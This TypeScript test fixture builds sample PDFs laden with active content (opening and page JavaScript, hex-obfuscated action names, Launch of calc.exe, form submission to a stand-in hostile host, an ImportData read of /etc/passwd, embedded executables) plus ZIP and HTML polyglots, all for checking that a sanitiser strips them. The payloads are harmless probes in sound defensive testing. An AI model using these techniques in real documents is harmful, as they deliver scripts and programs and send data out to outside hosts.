import { zipOf } from '../office/sample-office.ts';
import { armedWith, rawObject } from './raw-pdf.ts';

/** Something that acts in a PDF, and words that must not be in what signers are shown. */
interface Armed {
  pdf: Buffer;
  traces: readonly string[];
}

const annotation = (more: string): string => `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${more} >>]`;
const attached = { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ anexo') };
const fileOf = (num: number): string =>
  `<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F ${num} 0 R /UF ${num} 0 R >> >>`;

const armed = (parts: Parameters<typeof armedWith>[0], ...traces: string[]): Armed => ({
  pdf: armedWith(parts),
  traces,
});

const withPrefix = (prefix: Buffer, pdf: Buffer): Buffer => Buffer.concat([prefix, pdf]);
const plain = (): Buffer => armedWith({});

/** What is taken in once it is disarmed, or as a plain PDF, by the trick of each. */
export const DISARMED: Readonly<Record<string, () => Armed>> = {
  'a script on opening': () =>
    armed({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }, 'app.alert', 'OpenAction'),
  'a script in a stream': () =>
    armed(
      {
        catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>',
        objects: [{ dict: '', data: Buffer.from('app.alert(1)') }],
      },
      'app.alert',
    ),
  'scripts by name': () =>
    armed(
      { catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>' },
      'app.alert',
    ),
  'a script whose name is written in numbers': () =>
    armed({ catalog: '/Open#41ction << /S /Java#53cript /#4aS (app.alert\\(1\\)) >>' }, 'app.alert'),
  'a script by way of two references': () =>
    armed(
      {
        catalog: '/OpenAction 5 0 R',
        objects: ['<< /S 6 0 R /JS 7 0 R >>', '/JavaScript', '(app.alert\\(1\\))'],
      },
      'app.alert',
    ),
  'actions of a page': () =>
    armed({ page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }, 'app.alert', '/AA'),
  'actions dressed as a font': () =>
    armed({ page: '/AA << /Type /Font /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }, 'app.alert'),
  'a program to launch': () =>
    armed({ page: annotation('/Subtype /Link /A << /S /Launch /F (calc.exe) >>') }, 'calc.exe', 'Launch'),
  'a program to launch after a link': () =>
    armed(
      {
        page: annotation(
          '/Subtype /Link /A << /S /URI /URI (https://exemplo.com.br) /Next [<< /S /Launch /F (calc.exe) >>] >>',
        ),
      },
      'calc.exe',
    ),
  'a form that sends itself': () =>
    armed(
      { page: annotation('/Subtype /Link /A << /S /SubmitForm /F (https://mau.exemplo) >>') },
      'mau.exemplo',
    ),
  'data to be imported': () =>
    armed({ page: annotation('/Subtype /Link /A << /S /ImportData /F (/etc/passwd) >>') }, '/etc/passwd'),
  'another file to go to': () =>
    armed(
      { page: annotation('/Subtype /Link /A << /S /GoToR /F (//mau.exemplo/a) /D [0 /Fit] >>') },
      'mau.exemplo',
    ),
  'an XFA form': () =>
    armed({ catalog: '/AcroForm << /Fields [] /XFA (<xdp>formulario</xdp>) >>' }, 'xdp', 'XFA'),
  'an XFA form in parts': () =>
    armed(
      {
        catalog: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>',
        objects: [{ dict: '', data: Buffer.from('<xdp>formulario</xdp>') }],
      },
      'xdp',
    ),
  'embedded files': () =>
    armed(
      { catalog: `/Names << /EmbeddedFiles << /Names [(a) ${fileOf(5)}] >> >>`, objects: [attached] },
      'MZ anexo',
    ),
  'an attachment on a page': () =>
    armed(
      { page: annotation(`/Subtype /FileAttachment /FS ${fileOf(5)}`), objects: [attached] },
      'MZ anexo',
      'FileAttachment',
    ),
  'associated files': () => armed({ catalog: `/AF [${fileOf(5)}]`, objects: [attached] }, 'MZ anexo'),
  'a portfolio': () =>
    armed(
      {
        catalog: `/Collection << /View /H >> /Names << /EmbeddedFiles << /Names [(a) ${fileOf(5)}] >> >>`,
        objects: [attached],
      },
      'MZ anexo',
      'Collection',
    ),
  'a film with a script': () =>
    armed(
      {
        page: annotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 5 0 R] >> >>'),
        objects: [attached],
      },
      'MZ anexo',
      'RichMedia',
    ),
  'a sound': () =>
    armed({ page: annotation('/Subtype /Sound /Sound 5 0 R'), objects: [attached] }, 'MZ anexo'),
  'a PDF that is also an archive': () => ({
    pdf: withPrefix(zipOf({ 'a.txt': 'escondido' }), plain()),
    traces: ['escondido', 'PK\u0003\u0004'],
  }),
  'a PDF that is also a page of HTML': () => ({
    pdf: withPrefix(Buffer.from('<html><script>alert(1)</script><!--\n'), plain()),
    traces: ['<script>'],
  }),
  'HTML in a comment after the header': () => ({
    pdf: Buffer.from(
      plain().toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%<script>alert(1)</script>\n'),
      'latin1',
    ),
    traces: ['<script>'],
  }),
  'an archive after the end': () => ({
    pdf: Buffer.concat([plain(), zipOf({ 'a.txt': 'escondido' }), Buffer.from('\n%%EOF\n')]),
    traces: ['escondido'],
  }),
  'an object that nothing leads to': () => {
    const text = plain().toString('latin1');
    const hidden = rawObject(77, '(escondido)').toString('latin1');
    return {
      pdf: Buffer.from(text.replace('%PDF-1.7\n', `%PDF-1.7\n${hidden}`), 'latin1'),
      traces: ['escondido'],
    };
  },
};
